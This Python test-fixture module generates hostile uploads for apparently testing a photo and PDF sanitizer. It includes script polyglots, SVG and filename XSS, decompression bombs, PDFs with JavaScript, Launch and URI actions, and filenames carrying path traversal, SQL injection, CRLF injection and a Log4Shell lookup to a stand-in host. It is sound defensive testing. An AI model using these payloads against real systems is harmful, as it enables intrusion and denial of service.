"""Files that people who mean harm send, or phones that know no better; made here, so that none lies in the repository.

Each has the name it is sent under and a payload (CANARY in most of them) of which nothing may stay.
"""

import random
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from io import BytesIO

from PIL import Image

from tests.factories.documents import pdf, stream
from tests.gemeente.lib.pictures import (
    BLUE,
    CANARY,
    PLAIN,
    chunk,
    encoded,
    exif,
    huge_jpeg,
    huge_png,
    huge_webp,
    iptc,
    plain,
    png,
    profile,
    repeated_scan,
    segment,
    text_chunks,
    with_segments,
    xmp,
)

SCRIPT = f"<script>alert('{CANARY}')</script>".encode()
ZEROS = zlib.compress(bytes(32 * 1024 * 1024), level=1)  # at collection: soon rather than small
JPEG, PNG, WEBP = PLAIN["jpeg"], PLAIN["png"], PLAIN["webp"]


@dataclass(frozen=True)
class Hostile:
    """A file, the name it is sent under, and whether a picture of it may stay: painted anew, with nothing else."""

    what: str
    name: str
    data: bytes
    may_stay: bool = False


def zipped(name: str = "a.txt", content: bytes = CANARY.encode()) -> bytes:
    """A zip of one file."""
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(name, content)
    return buffer.getvalue()


def riff(kind: bytes, body: bytes) -> bytes:
    """A RIFF file: WebP, or what looks like it."""
    return b"RIFF" + struct.pack("<I", len(body) + 4) + kind + body


def icon() -> bytes:
    return encoded(plain((128, 128)), "ICO")


def tiff_bomb() -> bytes:
    """A TIFF header that says 50,000 by 50,000."""
    entries = [(256, 4, 50_000), (257, 4, 50_000), (258, 3, 8), (259, 3, 1), (262, 3, 1), (273, 4, 8), (279, 4, 4)]
    body = b"".join(struct.pack("<HHII", tag, kind, 1, value) for tag, kind, value in entries)
    return b"II*\0" + struct.pack("<I", 8) + struct.pack("<H", len(entries)) + body + bytes(4)


def pictures() -> Iterator[Hostile]:
    """Sent where a photo is asked."""
    yield Hostile("pdf that is a jpeg too", "foto.jpg", JPEG + pdf(CANARY.encode()), may_stay=True)
    yield Hostile("jpeg in a pdf", "foto.jpg", pdf(stream(JPEG, b"/Filter/DCTDecode")))
    yield Hostile("gif that is a script too", "foto.gif", b"GIF89a/*" + bytes(20) + b"*/=1;alert('" + CANARY.encode())
    yield Hostile("jpeg that is a zip too", "foto.jpg", JPEG + zipped(), may_stay=True)
    yield Hostile("jpeg that is a jar too", "foto.jpg", JPEG + zipped("META-INF/MANIFEST.MF"), may_stay=True)
    yield Hostile("page in a png", "foto.png", PNG[:-12] + chunk(b"tEXt", b"a\0" + SCRIPT) + PNG[-12:], may_stay=True)
    yield Hostile("page behind a png", "foto.png", PNG + SCRIPT, may_stay=True)
    yield Hostile("page in the pixels of a png", "foto.png", png((100, 100), 8, 2, (SCRIPT * 10)[:300]), may_stay=True)
    yield Hostile("script in a jpeg comment", "foto.jpg", with_segments(JPEG, segment(0xFE, SCRIPT)), may_stay=True)
    yield Hostile("script in exif", "foto.jpg", encoded(plain(), "JPEG", exif=exif()), may_stay=True)
    yield Hostile(
        "php in a jpeg", "foto.php.jpg", with_segments(JPEG, segment(0xFE, b"<?php echo 1; ?>")), may_stay=True
    )
    yield Hostile("webp with a page behind", "foto.webp", WEBP + SCRIPT, may_stay=True)
    yield Hostile("drawing with a script", "foto.svg", b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>")
    yield Hostile("drawing by the name of a photo", "foto.jpg", b'<?xml version="1.0"?><svg>' + SCRIPT + b"</svg>")
    yield Hostile("page by the name of a photo", "foto.jpg", b"<!doctype html>" + SCRIPT)
    yield Hostile("program by the name of a photo", "foto.jpg", b"MZ\x90\0" + bytes(500))
    yield Hostile("zip by the name of a photo", "foto.png", zipped())
    yield Hostile("png by the name of a jpeg", "foto.jpg", PNG)
    yield Hostile("header of a png and nothing else", "foto.png", b"\x89PNG\r\n\x1a\n")
    yield Hostile("header of a jpeg and noise", "foto.jpg", b"\xff\xd8\xff\xe0" + random.Random(1).randbytes(5000))
    yield Hostile("header of a webp and noise", "foto.webp", riff(b"WEBP", random.Random(2).randbytes(5000)))
    yield Hostile("webp that says to be longer", "foto.webp", riff(b"WEBP", b"VP8 " + struct.pack("<I", 2**31) + b"x"))
    yield Hostile("png of 30,000 by 30,000", "bom.png", huge_png(30_000, 30_000))
    yield Hostile("png of 50,000 wide", "breed.png", huge_png(50_000, 1000))
    yield Hostile("jpeg of 65,000 by 65,000", "bom.jpg", huge_jpeg(65_000, 65_000))
    yield Hostile("webp of 16,000 by 16,000", "bom.webp", huge_webp(16_000, 16_000))
    yield Hostile("tiff of 50,000 by 50,000", "bom.tif", tiff_bomb())
    text = chunk(b"zTXt", b"a\0\0" + ZEROS)
    yield Hostile("png with a text that unpacks to 32 MB", "tekst.png", png((300, 300), 8, 0, bytes(300), text))
    text = chunk(b"iCCP", b"a\0\0" + ZEROS)
    yield Hostile("png with a profile that unpacks to 32 MB", "icc.png", png((300, 300), 8, 0, bytes(300), text))
    many = with_segments(JPEG, *(segment(0xE1, b"Exif\0\0" + bytes(8)) for _turn in range(2000)))
    yield Hostile("jpeg of two thousand pieces", "exif.jpg", many)
    yield Hostile("jpeg of two hundred scans", "scans.jpg", repeated_scan(200))
    yield Hostile(
        "jpeg with a profile", "icc.jpg", encoded(plain(), "JPEG", icc_profile=profile(), xmp=xmp()), may_stay=True
    )
    yield Hostile("jpeg with a caption", "iptc.jpg", with_segments(JPEG, iptc()), may_stay=True)
    yield Hostile("png with texts", "tekst.png", encoded(plain(), "PNG", pnginfo=text_chunks()), may_stay=True)
    yield Hostile("half a jpeg", "half.jpg", encoded(plain((900, 900)), "JPEG")[:2000])
    yield Hostile("half a png", "half.png", PNG[: len(PNG) // 2])
    yield Hostile("half a webp", "half.webp", WEBP[: len(WEBP) // 2])
    yield Hostile("nothing", "leeg.jpg", b"")
    yield Hostile("one byte", "een.jpg", b"\xff")
    moving = {"save_all": True, "append_images": [plain(colour=BLUE)] * 5}
    yield Hostile("moving gif", "film.gif", encoded(plain(), "GIF", **moving))
    yield Hostile("moving webp", "film.webp", encoded(plain(), "WEBP", **moving), may_stay=True)
    yield Hostile("moving png", "film.png", encoded(plain(), "PNG", **moving), may_stay=True)
    yield Hostile("two photos in one", "twee.jpg", encoded(plain(), "MPO", **moving, comment=CANARY), may_stay=True)
    yield Hostile("photo for the press", "cmyk.jpg", encoded(plain(mode="CMYK"), "JPEG", exif=exif()), may_stay=True)
    yield Hostile("photo of 16 bits", "diep.png", png((200, 200), 16, 2, b"\x80\1" * 600), may_stay=True)
    yield Hostile("photo of a phone", "foto.heic", b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + CANARY.encode())
    yield Hostile("avif", "foto.avif", b"\0\0\0\x1cftypavif\0\0\0\0avifmif1" + CANARY.encode())
    yield Hostile("tiff", "foto.tif", encoded(plain(), "TIFF"))
    yield Hostile("bmp", "foto.bmp", encoded(plain(), "BMP"))
    yield Hostile("icon", "foto.ico", icon())
    yield Hostile("postscript", "foto.eps", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 300 300\n" + CANARY.encode())
    yield Hostile("png with chunks in disorder", "door.png", PNG[:8] + PNG[33:] + PNG[8:33])
    yield Hostile("palette without colours", "palet.png", png((200, 200), 8, 3, bytes(200)))


def names() -> Iterator[Hostile]:
    """A sound photo under names that are not."""
    for name in (
        "../../../etc/passwd.jpg",
        "..\\..\\windows\\system32\\foto.jpg",
        "/etc/cron.d/foto.jpg",
        'foto".jpg',
        "foto'; drop table photo;--.jpg",
        "<img src=x onerror=alert(1)>.jpg",
        "gpj.exe\u202e.jpg",
        "foto\u200b\u2066.jpg",
        "foto\x00.jpg",
        "foto\r\nSet-Cookie: a=b.jpg",
        "f" * 90 + ".jpg",
        "foto.jpg.jpg",
        "CON.jpg",
        ".jpg",
        " .jpg",
        "%2e%2e%2ffoto.jpg",
        "${jndi:ldap://a.example}.jpg",
        "{{ 7 * 7 }}.jpg",
    ):
        yield Hostile(f"name {name!r}", name, JPEG, may_stay=True)


def documents() -> Iterator[Hostile]:
    """Sent where a PDF is asked."""
    act = b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"
    yield Hostile("script when it opens", "plan.pdf", pdf(catalog=act))
    yield Hostile("script with an escaped name", "plan.pdf", pdf(catalog=b"/OpenAction<</S/J#61vaScript/#4aS(1)>>"))
    yield Hostile("script in another object", "plan.pdf", pdf(b"<</S/JavaScript/JS 5 0 R>>"))
    packed = zlib.compress(b"7 0 8 40 <</S/JavaScript/JS(app.alert(1))>>      <<>>")
    objects = b"/Type/ObjStm/N 2/First 9/Filter/FlateDecode"
    yield Hostile("script in packed objects", "plan.pdf", pdf(stream(packed, objects)))
    yield Hostile("script in packed objects without a kind", "plan.pdf", pdf(stream(packed, b"/Filter/FlateDecode")))
    twice = zlib.compress(zlib.compress(b"7 0 <</S/JavaScript>>"))
    yield Hostile(
        "objects packed twice", "plan.pdf", pdf(stream(twice, b"/Type/ObjStm/Filter[/FlateDecode/FlateDecode]"))
    )
    yield Hostile("objects in letters", "plan.pdf", pdf(stream(b"3c3c3e3e>", b"/Type/ObjStm/Filter/ASCIIHexDecode")))
    yield Hostile(
        "objects that unpack to 100 MB",
        "plan.pdf",
        pdf(stream(zlib.compress(b"7 0 " + bytes(100 << 20), level=1), objects)),
    )
    yield Hostile("program that starts", "plan.pdf", pdf(catalog=b"/OpenAction<</S/Launch/F(calc.exe)>>"))
    yield Hostile("action at a page", "plan.pdf", pdf(b"<</AA<</O<</S/URI/URI(http://a.example)>>>>>>"))
    yield Hostile("site when it opens", "plan.pdf", pdf(catalog=b"/OpenAction<</S/URI/URI(http://a.example)>>"))
    yield Hostile(
        "site when it opens, in an object",
        "plan.pdf",
        pdf(b"<</S/URI/URI(http://a.example)>>", catalog=b"/OpenAction 4 0 R"),
    )
    yield Hostile("form that sends", "plan.pdf", pdf(b"<</S/SubmitForm/F(http://a.example)>>"))
    yield Hostile("form of another kind", "plan.pdf", pdf(catalog=b"/AcroForm<</XFA 4 0 R>>"))
    yield Hostile("file inside", "plan.pdf", pdf(stream(CANARY.encode(), b"/Type/EmbeddedFile")))
    yield Hostile("files inside", "plan.pdf", pdf(catalog=b"/Names<</EmbeddedFiles<</Names[(a)4 0 R]>>>>"))
    yield Hostile("film inside", "plan.pdf", pdf(b"<</Subtype/RichMedia>>"))
    yield Hostile("password", "plan.pdf", pdf(trailer=b"/Encrypt 4 0 R"))
    yield Hostile("zip behind", "plan.pdf", pdf() + zipped())
    yield Hostile("zip inside, found from its end", "plan.pdf", pdf(stream(zipped())))
    yield Hostile("page behind", "plan.pdf", pdf() + SCRIPT)
    yield Hostile("page before", "plan.pdf", SCRIPT + pdf())
    yield Hostile("no list of objects", "plan.pdf", pdf().replace(b"xref\n0", b"ferx\n0"))
    yield Hostile("list of objects elsewhere", "plan.pdf", pdf()[:-15] + b"startxref\n99999999\n%%EOF\n")
    yield Hostile("no end", "plan.pdf", pdf()[:-7])
    yield Hostile("header and nothing else", "plan.pdf", b"%PDF-1.7\n")
    yield Hostile(
        "header and noise", "plan.pdf", b"%PDF-1.7\n" + random.Random(3).randbytes(5000) + b"startxref\n9\n%%EOF"
    )
    yield Hostile("zip by the name of a pdf", "plan.pdf", zipped())
    yield Hostile("page by the name of a pdf", "plan.pdf", b"<!doctype html>" + SCRIPT)
    yield Hostile("word by the name of a pdf", "plan.pdf", zipped("word/document.xml"))
    yield Hostile("photo by the name of a pdf", "plan.pdf", JPEG)
    yield Hostile("pdf by another name", "plan.html", pdf())
    yield Hostile("pdf by two names", "plan.pdf.exe", pdf())
    yield Hostile("nothing", "plan.pdf", b"")
    yield Hostile("too much", "plan.pdf", pdf().ljust(10 * 1024 * 1024 + 1, b"\n"))


def mutated(number: int, seed: int = 8) -> Iterator[bytes]:
    """Photos with bytes changed, left out, doubled or cut off: the same ones each run."""
    chance = random.Random(seed)
    sources = [
        JPEG,
        PNG,
        WEBP,
        encoded(plain(), "JPEG", progressive=True, exif=exif()),
        encoded(plain(mode="P"), "PNG"),
    ]
    sources += [encoded(Image.effect_noise((120, 120), 50), kind) for kind in ("JPEG", "PNG", "WEBP")]
    for turn in range(number):
        data = bytearray(sources[turn % len(sources)])
        for _change in range(chance.choice([1, 1, 2, 8, 40])):
            place = chance.randrange(len(data))
            way = chance.randrange(4)
            if way == 0:
                data[place] = chance.randrange(256)
            elif way == 1:
                del data[place : place + chance.randrange(1, 20)]
            elif way == 2:
                data[place:place] = data[place : place + chance.randrange(1, 200)]
            else:
                data[place : place + 4] = chance.choice([b"\xff\xff\xff\xff", bytes(4), b"\x7f\xff\xff\xff"])
            if len(data) < 20:
                break
        yield bytes(data[: chance.randrange(len(data) // 2, len(data))] if chance.random() < 0.1 else data)
